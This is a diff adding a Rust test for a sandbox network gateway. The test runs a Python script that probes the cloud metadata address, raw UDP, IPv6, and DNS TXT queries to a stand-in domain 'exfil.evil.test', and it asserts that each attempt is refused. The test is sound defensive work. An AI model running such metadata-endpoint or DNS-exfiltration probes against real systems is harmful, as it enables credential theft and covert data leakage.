@@ -250,3 +250,47 @@ fn without_the_allowlist_there_is_no_resolver_at_all() {
     assert_eq!(hits.load(Ordering::SeqCst), 0);
     let _ = port;
 }
+
+#[test]
+fn metadata_udp_ipv6_and_data_carrying_queries_have_no_way_out() {
+    // api.test is mapped to the cloud metadata address: the gateway refuses it before dialling
+    // (nothing is sent: the refusal comes from the address class).
+    let pol = "[network]\nmode = \"allowlist\"\nallow = [\"api.test:80\"]\n\
+               [network.hosts]\n\"api.test\" = \"169.254.169.254\"\n";
+    let script = "import socket, struct, urllib.request\n\
+        try:\n    urllib.request.urlopen('http://api.test/', timeout=10); print('fetched')\n\
+        except urllib.error.HTTPError as e: print('meta', e.code, e.headers.get('X-Stockade-Reason'))\n\
+        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
+        try:\n    u.sendto(b'x', ('192.0.2.1', 53)); print('udp sent')\n\
+        except OSError as e: print('udp', e.errno)\n\
+        try:\n    socket.create_connection(('2001:db8::1', 443), timeout=5); print('v6 connected')\n\
+        except OSError as e: print('v6', e.errno)\n\
+        def q(name, qtype):\n\
+        \x20   labels = b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\\0'\n\
+        \x20   pkt = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + labels + struct.pack('>HH', qtype, 1)\n\
+        \x20   s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)\n\
+        \x20   s.sendto(pkt, ('127.0.0.53', 53)); r = s.recv(512)\n\
+        \x20   return r[3] & 0xf, struct.unpack('>H', r[6:8])[0]\n\
+        print('txt unlisted', q('exfil.evil.test', 16))\n\
+        print('txt allowed', q('api.test', 16))\n\
+        print('a unlisted', q('exfil.evil.test', 1))\n";
+    let r = run(pol, script, &[]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    // REFUSED = 5, NXDOMAIN = 3, NOERROR with 0 answers for a type that is not A/AAAA.
+    assert_eq!(
+        r.stdout,
+        "meta 403 denied:metadata_address\nudp 101\nv6 101\ntxt unlisted (5, 0)\ntxt allowed (0, 0)\na unlisted (3, 0)\n"
+    );
+    assert!(
+        of_type(&r, "net.connect")
+            .iter()
+            .any(|c| c["reason"] == "denied:metadata_address")
+    );
+    assert!(
+        of_type(&r, "net.dns")
+            .iter()
+            .any(|d| d["name"] == "exfil.evil.test"
+                && d["qtype"] == "TYPE16"
+                && d["decision"] == "denied")
+    );
+}
